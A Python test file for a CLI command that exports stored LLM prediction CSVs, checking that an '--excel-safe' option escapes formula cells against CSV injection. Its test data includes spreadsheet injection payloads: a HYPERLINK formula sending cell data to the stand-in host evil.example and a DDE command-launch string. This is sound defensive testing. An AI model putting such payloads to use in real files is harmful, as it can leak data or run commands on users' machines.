"""``spanrun predictions export``: the stored llm_predictions.csv byte for byte, or with
``--excel-safe`` a copy whose formula-like cells are prefixed with ``'`` (CSV injection)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd

import spanrun
from spanrun.artifacts import get_artifact_repository

from .conftest import Cli

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\tleading tab",
    "\rleading carriage return",
]
HARMLESS = ["plain", "multi\nline =1", 'comma, "quote"', "héllo ✓", "", " =1", "'already"]


def stored_predictions(cli: Cli) -> tuple[str, bytes]:
    """A run whose llm_predictions.csv holds hostile and harmless cells in every column."""
    spanrun.set_tracking_uri(cli.uri)
    cells = HOSTILE + HARMLESS
    with spanrun.start_run() as run:
        spanrun.llm.log_predictions(
            inputs=cells,
            outputs=list(reversed(cells)),
            prompts=[*cells[:-1], {"role": "user", "content": "=1+1"}],
        )
    repo = get_artifact_repository(cli.client.get_run(run.info.run_id).info.artifact_uri)
    return run.info.run_id, repo.read_bytes("llm_predictions.csv")


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_plain_export_is_the_stored_file(cli: Cli, tmp_path: Path) -> None:
    run_id, stored = stored_predictions(cli)
    result = cli("predictions", "export", run_id)
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes == stored  # verbatim: formulas included, the data stays exact
    assert any(cell in HOSTILE for row in rows(stored) for cell in row)
    out = tmp_path / "copy.csv"
    assert cli.ok("predictions", "export", "-r", run_id, "-o", str(out)).strip() == str(out)
    assert out.read_bytes() == stored


def test_excel_safe_export_prefixes_formula_cells(cli: Cli, tmp_path: Path) -> None:
    run_id, stored = stored_predictions(cli)
    out = tmp_path / "safe.csv"
    cli.ok("predictions", "export", run_id, "--excel-safe", "-o", str(out))
    data = out.read_bytes()
    assert data.startswith("\ufeff".encode())  # Excel then reads it as UTF-8

    original, safe = rows(stored), rows(data)
    assert safe[0] == original[0] == ["inputs", "outputs", "prompts"]
    assert len(safe) == len(original) == 1 + len(HOSTILE) + len(HARMLESS)
    escaped = 0
    for before_row, after_row in zip(original, safe, strict=True):
        for before, after in zip(before_row, after_row, strict=True):
            if before[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert after == "'" + before
                escaped += 1
            else:
                assert after == before
    assert escaped == 3 * len(HOSTILE)  # each hostile value in inputs, outputs and prompts
    assert not any(cell[:1] in "=+-@\t\r" for row in safe for cell in row if cell)

    # What a spreadsheet or pandas reads: text, the formulas inert.
    frame = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert frame["inputs"].tolist()[: len(HOSTILE)] == ["'" + c for c in HOSTILE]
    assert frame["inputs"].tolist()[len(HOSTILE) :] == HARMLESS
    assert frame["prompts"].iloc[-1] == '{"role": "user", "content": "=1+1"}'


def test_excel_safe_export_to_stdout_in_a_real_process(cli: Cli, tmp_path: Path) -> None:
    run_id, _ = stored_predictions(cli)
    out = tmp_path / "safe.csv"
    cli.ok("predictions", "export", run_id, "--excel-safe", "-o", str(out))
    done = subprocess.run(
        [sys.executable, "-m", "spanrun.cli", "predictions", "export", run_id, "--excel-safe"],
        capture_output=True,
        env={**os.environ, "SPANRUN_TRACKING_URI": cli.uri},
        cwd=tmp_path,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == out.read_bytes()


def test_export_errors(cli: Cli) -> None:
    bare = cli.client.create_run("0").info.run_id
    result = cli("predictions", "export", bare)
    assert result.exit_code == 1
    assert result.output == f"Error: Run {bare} has no llm_predictions.csv.\n"
    result = cli("predictions", "export", "0" * 32)
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert cli("predictions", "export").exit_code == 2
